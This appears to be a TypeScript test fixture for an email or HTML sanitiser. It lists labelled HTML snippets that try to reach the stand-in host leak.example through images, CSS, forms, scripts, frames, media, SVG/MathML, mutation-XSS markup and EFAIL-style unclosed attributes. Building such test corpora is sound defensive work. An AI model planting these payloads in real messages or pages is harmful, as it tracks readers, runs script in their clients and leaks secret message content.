// HTML that tries to reach the network from inside a message: one row a way, after the published collections.

const URL_OF = (name: string): string => `http://leak.example/${name}`;

export const LEAKING_HTML: readonly (readonly [string, string])[] = [
  [
    'pictures',
    `<img src="${URL_OF('img')}"><img srcset="${URL_OF('srcset')} 2x"><img src="//leak.example/relative"><input type=image src="${URL_OF('input')}"><picture><source srcset="${URL_OF('source')}"><img></picture>`,
  ],
  [
    'backgrounds',
    `<body background="${URL_OF('body')}"><table background="${URL_OF('table')}"><tr><td background="${URL_OF('td')}">x</td></tr></table>`,
  ],
  [
    'style attributes',
    `<p style="background:url(${URL_OF('bg')})">a</p><p style="background:u\\72l('${URL_OF('escaped')}')">b</p><p style="list-style-image:url(${URL_OF('list')});display:list-item">c</p><p style="--x:url(${URL_OF('var')});background:var(--x)">d</p><p style="background:var(--none, url(${URL_OF('fallback')}))">e</p><p style="background:image-set('${URL_OF('set')}' 1x)">f</p><p style="cursor:url(${URL_OF('cursor')}),auto">g</p>`,
  ],
  [
    'style sheets',
    `<style>@import url(${URL_OF('import')});@import "${URL_OF('import2')}";@font-face{font-family:x;src:url(${URL_OF('font')})}p{font-family:x;background:url(${URL_OF('rule')})}@media screen{p{border-image:url(${URL_OF('media')}) 1}}p::before{content:url(${URL_OF('content')})}.a{&:not(.b){background:url(${URL_OF('nested')})}}@layer l{p{mask-image:url(${URL_OF('layer')})}}</style><p class=a>text</p>`,
  ],
  [
    'a style sheet that ends early',
    `<style>p::before{content:"</sty\\6ce><img src=${URL_OF('early')}>"}</style><style>a{}<!--</style><img src="${URL_OF('comment')}">--></style><p>x</p>`,
  ],
  [
    'links of the document',
    `<link rel=stylesheet href="${URL_OF('sheet')}"><link rel=prefetch href="${URL_OF('prefetch')}"><link rel=preload as=image href="${URL_OF('preload')}"><link rel=dns-prefetch href="//dns.example"><link rel=preconnect href="http://preconnect.example"><link rel=icon href="${URL_OF('icon')}">`,
  ],
  [
    'refresh and base',
    `<meta http-equiv=refresh content="0;url=${URL_OF('refresh')}"><base href="http://leak.example/"><img src="based.png"><meta http-equiv=set-cookie content="a=b">`,
  ],
  [
    'forms',
    `<form action="${URL_OF('form')}" id=f><input name=a value=b><button formaction="${URL_OF('button')}">go</button></form><script>f.submit()</script><isindex action="${URL_OF('isindex')}">`,
  ],
  [
    'scripts',
    `<script>fetch('${URL_OF('fetch')}')</script><script src="${URL_OF('script')}"></script><img src=x onerror="new Image().src='${URL_OF('onerror')}'"><svg onload="fetch('${URL_OF('svg-onload')}')"></svg><details open ontoggle="fetch('${URL_OF('toggle')}')"><summary>x</summary></details>`,
  ],
  [
    'frames and plug-ins',
    `<iframe src="${URL_OF('iframe')}"></iframe><iframe srcdoc="<img src='${URL_OF('srcdoc')}'>"></iframe><object data="${URL_OF('object')}"></object><embed src="${URL_OF('embed')}"><frameset><frame src="${URL_OF('frame')}"></frameset><portal src="${URL_OF('portal')}"></portal><applet code="${URL_OF('applet')}"></applet>`,
  ],
  [
    'sound and film',
    `<video src="${URL_OF('video')}" poster="${URL_OF('poster')}" autoplay><source src="${URL_OF('video-source')}"><track src="${URL_OF('track')}" default></video><audio src="${URL_OF('audio')}" autoplay></audio><bgsound src="${URL_OF('bgsound')}">`,
  ],
  [
    'SVG and MathML',
    `<svg><image href="${URL_OF('svg-image')}"/><image xlink:href="${URL_OF('svg-xlink')}"/><use href="${URL_OF('use')}#a"/><style>@import '${URL_OF('svg-style')}';</style><foreignObject><img src="${URL_OF('foreign')}"></foreignObject></svg><math><mtext><img src="${URL_OF('math')}"></mtext><mglyph src="${URL_OF('mglyph')}"/></math>`,
  ],
  [
    'markup that changes when it is read again',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${URL_OF('mxss')}&gt;"></table></mtext></math><noscript><p title="</noscript><img src=${URL_OF('noscript')}>"></noscript><svg></p><style><a id="</style><img src=${URL_OF('mxss2')}>"></a></style></svg>`,
  ],
  ['an opened picture around the secret', `<img src="${URL_OF('efail?')}`],
  [
    'an opened style around the secret',
    `<p style="background:url(${URL_OF('efail-style?')}`.concat(`)">x</p>`),
  ],
  [
    'an SVG picture within the message',
    `<img src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'%3E%3Cimage xlink:href='${URL_OF('data-svg')}'/%3E%3C/svg%3E">`,
  ],
  [
    'a link that is pinged',
    `<a href="http://other.example/" ping="${URL_OF('ping')}">x</a><a href="http://hover.example/">hover</a>`,
  ],
];
